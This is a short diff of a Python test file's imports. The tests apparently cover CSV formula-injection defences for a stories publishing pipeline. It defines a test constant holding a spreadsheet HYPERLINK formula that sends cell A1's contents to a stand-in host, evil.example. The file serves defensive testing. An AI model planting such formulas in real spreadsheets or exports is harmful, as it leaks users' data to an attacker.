@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import sqlite3
 
 import pytest
 
@@ -13,6 +12,7 @@ from pipelines.publish import run_publish
 from stories.datasette_plugin import make_datasette
 from stories.records import list_stories
 from stories.spreadsheet import FORMULA_STARTS, csv_text, neutralise_csv, safe_cell
+from stories.sqlite import sqlite3
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 EVIDENCE = "-I go to the lunch club now+1"
